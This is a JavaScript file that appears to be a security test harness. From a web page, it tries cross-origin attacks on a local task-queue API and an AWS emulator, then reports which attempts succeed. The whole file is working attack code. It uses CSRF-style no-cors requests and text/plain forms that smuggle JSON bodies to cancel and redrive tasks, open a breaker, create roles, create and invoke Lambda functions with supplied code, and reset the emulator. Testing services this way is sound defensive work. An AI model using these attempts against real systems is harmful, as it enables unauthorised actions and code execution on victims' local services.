// What a web page can try against servers whose addresses it knows. `attack` makes the attempts of a plan one after the
// other, and reports for each what the page could read: {status, text}; a status of 0 where the browser names none.

const NOTHING = { status: 0, text: "" };
const SECONDS = 10;

const plain = (method, body) => ({ method, mode: "no-cors", body });
const untyped = (text) => new Blob([text]); // sent without a Content-Type, and without asking first
const json = (method, body) => ({ method, headers: { "Content-Type": "application/json" }, body });

async function fetched(url, init) {
  const response = await fetch(url, init);
  return { status: response.status, text: (await response.text()).slice(0, 2000) };
}

// The outcome of an element or a connection: resolved by its events, NOTHING on an error or if nothing ever happens.
function event(start) {
  return new Promise((resolve) => {
    setTimeout(resolve, SECONDS * 1000, NOTHING);
    start((text) => resolve({ status: 200, text }), () => resolve(NOTHING));
  });
}

function element(tag, attributes) {
  return event((done, failed) => {
    const made = Object.assign(document.createElement(tag), attributes, { onload: () => done("loaded"), onerror: failed });
    document.body.append(made);
  });
}

// A page in a frame, loaded by a link or by a form. Frames of other origins load, but cannot be read.
function framed(start) {
  return new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame-${Math.random()}` });
    setTimeout(resolve, SECONDS * 1000, NOTHING);
    frame.onload = () => {
      let seen = null;
      try {
        seen = frame.contentDocument;
      } catch {}
      if (seen && seen.URL === "about:blank") return;
      resolve(seen ? { status: 0, text: seen.documentElement.innerText } : NOTHING);
    };
    document.body.append(frame);
    start(frame);
  });
}

function form(url, fields, enctype) {
  return framed((frame) => {
    const made = Object.assign(document.createElement("form"), { action: url, method: "POST", enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) made.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(made);
    made.submit();
  });
}

const socket = (url) =>
  event((done, failed) => {
    const made = new WebSocket(url.replace("http", "ws"));
    made.onopen = () => done("opened");
    made.onerror = failed;
  });

const stream = (url) =>
  event((done, failed) => {
    const made = new EventSource(url);
    made.onopen = () => done("opened");
    made.onerror = () => (made.close(), failed());
  });

const beacon = async (url, body) => (navigator.sendBeacon(url, body), NOTHING);

function doorAttempts(door, known) {
  const api = `${door}/v1`;
  const task = JSON.stringify({ title: "from a page", description: "d", priority: "low" });
  const all = JSON.stringify({ dry_run: false });
  const open = JSON.stringify({ state: "open", reason: "a page" });
  const reading = ["/v1/tasks?ordering_key=private", `/v1/tasks/${known.queued}`, "/v1/breaker", "/v1/health", "/v1/openapi.json", "/"];
  return {
    ...Object.fromEntries(reading.map((path) => [`read ${path}`, () => fetched(door + path)])),
    ...Object.fromEntries(reading.map((path) => [`read ${path} unasked`, () => fetched(door + path, { mode: "no-cors" })])),
    "submit as JSON": () => fetched(`${api}/tasks`, json("POST", task)),
    "submit without a type": () => fetched(`${api}/tasks`, plain("POST", untyped(task))),
    "submit as text": () => fetched(`${api}/tasks`, plain("POST", task)),
    "submit a batch without a type": () => fetched(`${api}/tasks/batch`, plain("POST", untyped(`[${task}]`))),
    "submit by a beacon": () => beacon(`${api}/tasks`, untyped(task)),
    "submit by a form": () => form(`${api}/tasks`, { [task.slice(0, -1) + ',"data":{"a":"']: '"}}' }, "text/plain"),
    "submit by an encoded form": () => form(`${api}/tasks`, { title: "from a page" }, "application/x-www-form-urlencoded"),
    "cancel": () => fetched(`${api}/tasks/${known.queued}`, { method: "DELETE" }),
    "cancel by another name": () => fetched(`${api}/tasks/${known.queued}?_method=DELETE`, plain("POST")),
    "redrive": () => fetched(`${api}/redrive`, json("POST", all)),
    "redrive without a type": () => fetched(`${api}/redrive`, plain("POST", untyped(all))),
    "redrive by a form": () => form(`${api}/redrive`, { [all.slice(0, -1) + ',"a":"']: '"}' }, "text/plain"),
    "redrive one": () => fetched(`${api}/tasks/${known.failed}/redrive`, { method: "POST" }),
    "redrive one unasked": () => fetched(`${api}/tasks/${known.failed}/redrive`, plain("POST")),
    "redrive one by a form": () => form(`${api}/tasks/${known.failed}/redrive`, {}, "text/plain"),
    "open the breaker": () => fetched(`${api}/breaker`, json("PUT", open)),
    "open the breaker unasked": () => fetched(`${api}/breaker`, plain("POST", untyped(open))),
    "open the breaker by a form": () => form(`${api}/breaker`, { [open.slice(0, -1) + ',"a":"']: '"}' }, "text/plain"),
    "an image": () => element("img", { src: `${api}/breaker` }),
    "a script": () => element("script", { src: `${api}/tasks/${known.queued}` }),
    "a style sheet": () => element("link", { rel: "stylesheet", href: `${api}/openapi.json` }),
    "a frame": () => framed((frame) => (frame.src = `${api}/tasks/${known.queued}`)),
    "events": () => stream(`${api}/tasks/${known.queued}`),
    "a WebSocket": () => socket(`${api}/health`),
  };
}

function emulatorAttempts(emulator, code) {
  const credential = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=test/20260131/us-east-1/";
  const signed = (service) => `${credential}${service}/aws4_request&X-Amz-SignedHeaders=host&X-Amz-Signature=0`;
  const action = (name, more) => `${emulator}/?Action=${name}&Version=2012-11-05&${more || ""}&${signed("sqs")}`;
  const trust = encodeURIComponent('{"Version": "2012-10-17", "Statement": []}');
  const role = "arn:aws:iam::000000000000:role/from-a-page";
  const created = (name) =>
    JSON.stringify({ FunctionName: name, Runtime: "python3.12", Handler: "page.handler", Role: role, Code: { ZipFile: code } });
  const functions = `${emulator}/2015-03-31/functions`;
  const target = { "X-Amz-Target": "DynamoDB_20120810.ListTables", "Content-Type": "application/x-amz-json-1.0" };
  return {
    "its health": () => fetched(`${emulator}/_ministack/health`),
    "its health unasked": () => fetched(`${emulator}/_ministack/health`, { mode: "no-cors" }),
    "its configuration": () => fetched(`${emulator}/_ministack/config`),
    "list queues": () => fetched(action("ListQueues")),
    "create a queue": () => fetched(action("CreateQueue", "QueueName=from-a-page-1")),
    "create a queue unasked": () => fetched(action("CreateQueue", "QueueName=from-a-page-2"), { mode: "no-cors" }),
    "create a queue by an image": () => element("img", { src: action("CreateQueue", "QueueName=from-a-page-3") }),
    "create a queue by a frame": () => framed((frame) => (frame.src = action("CreateQueue", "QueueName=from-a-page-4"))),
    "create a queue by a form": () => form(action("CreateQueue", "QueueName=from-a-page-5"), { a: "b" }, "text/plain"),
    "list tables": () => fetched(`${emulator}/?${signed("dynamodb")}`, { method: "POST", headers: target, body: "{}" }),
    "list functions": () => fetched(`${functions}/?${signed("lambda")}`),
    "create a role": () =>
      fetched(`${emulator}/?Action=CreateRole&Version=2010-05-08&RoleName=from-a-page&AssumeRolePolicyDocument=${trust}&${signed("iam")}`),
    "create a function": () => fetched(`${functions}?${signed("lambda")}`, json("POST", created("from-a-page-1"))),
    "create a function unasked": () =>
      fetched(`${functions}?${signed("lambda")}`, plain("POST", untyped(created("from-a-page-2")))),
    "invoke a function": () =>
      fetched(`${functions}/taskline-dev-breaker/invocations?${signed("lambda")}`, plain("POST", untyped("{}"))),
    "run code": () => fetched(`${functions}/from-a-page-2/invocations?${signed("lambda")}`, { method: "POST", body: untyped("{}") }),
    "take an invocation": () => fetched(`${emulator}/2018-06-01/runtime/invocation/next`, { mode: "no-cors" }),
    "a stream of it": () => stream(`${emulator}/_ministack/health`),
    "a WebSocket to it": () => socket(`${emulator}/_ministack/health`),
    "forget everything": () => fetched(`${emulator}/_ministack/reset`, plain("POST")),
  };
}

// `known` are the ids of a queued and of a failed task, `code` is an archive for a function, `without` names attempts.
async function attack({ report, door, known, emulators, code, without }) {
  const all = [door ? doorAttempts(door, known) : {}, ...emulators.map((emulator) => emulatorAttempts(emulator, code))];
  const results = [];
  for (const attempts of all)
    for (const [name, attempt] of Object.entries(attempts))
      if (!without.includes(name)) results.push({ name, ...(await attempt().catch(() => NOTHING)) });
  document.body.append(Object.assign(document.createElement("pre"), { textContent: JSON.stringify(results) }));
  await fetch(report, plain("POST", JSON.stringify(results)));
}
